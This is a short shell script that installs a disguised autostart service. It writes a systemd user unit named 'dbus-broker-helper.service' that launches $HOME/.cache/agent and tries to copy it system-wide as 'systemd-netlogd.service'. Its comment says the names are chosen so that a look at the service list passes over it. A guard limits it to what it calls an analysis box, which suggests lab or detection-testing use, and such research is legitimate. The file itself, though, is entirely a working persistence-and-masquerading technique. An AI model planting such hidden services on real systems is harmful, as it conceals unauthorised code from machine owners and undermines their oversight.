#!/bin/sh
# SPDX-License-Identifier: MIT
# A user service named like a system daemon, so a look at the service
# list passes over it.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
u="$HOME/.config/systemd/user"
mkdir -p "$u"
printf '[Service]\nExecStart=%s/.cache/agent\n[Install]\nWantedBy=default.target\n' "$HOME" > "$u/dbus-broker-helper.service"
cp "$u/dbus-broker-helper.service" /etc/systemd/system/systemd-netlogd.service 2>/dev/null
exit 0
